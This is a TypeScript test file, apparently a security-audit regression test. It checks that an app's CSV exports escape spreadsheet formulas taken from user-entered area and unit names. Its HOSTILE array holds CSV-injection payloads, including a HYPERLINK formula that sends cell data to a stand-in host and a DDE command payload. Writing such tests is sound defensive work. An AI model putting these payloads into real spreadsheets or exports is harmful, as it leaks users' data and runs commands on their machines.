// Finding 6: every CSV Avlast writes opens in a spreadsheet without running
// a formula from a name someone typed.
import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { call, createArea, createUnit, createUser, request, sessionCookie } from '../factories'
import { loader as followUpCsv } from '~/routes/follow-up[.csv]'
import { loader as situationCsv } from '~/routes/situation[.csv]'
import { prisma } from '~/utils/db.server'

const HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1;"Klicka")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1']

async function cells(response: Response) {
  expect(response.status).toBe(200)
  const text = (await response.text()).replace(/^\uFEFF/, '')
  return (parse(text, { delimiter: ';' }) as string[][]).flat()
}

describe('CSV downloads escape formulas', () => {
  test.each([
    ['situation', situationCsv, '/situation.csv'],
    ['follow-up', followUpCsv, '/follow-up.csv'],
  ] as const)('/%s.csv: an area or unit name that starts a formula is written as text', async (_name, loader, path) => {
    const area = await createArea()
    await prisma.area.update({ where: { id: area.id }, data: { nameSv: HOSTILE[0], nameEn: HOSTILE[0] } })
    for (const name of HOSTILE) await createUnit({ areaId: area.id, name })
    const central = await createUser({ role: 'CENTRAL' })
    const cookie = await sessionCookie(central.id)
    const written = await cells(await call(() => loader({ request: request(path, { cookie }), params: {}, context: {} })))
    for (const name of HOSTILE) expect(written, name).toContain(`'${name}`)
    expect(written.filter((c) => /^[=+@\t]/.test(c))).toEqual([])
  })
})
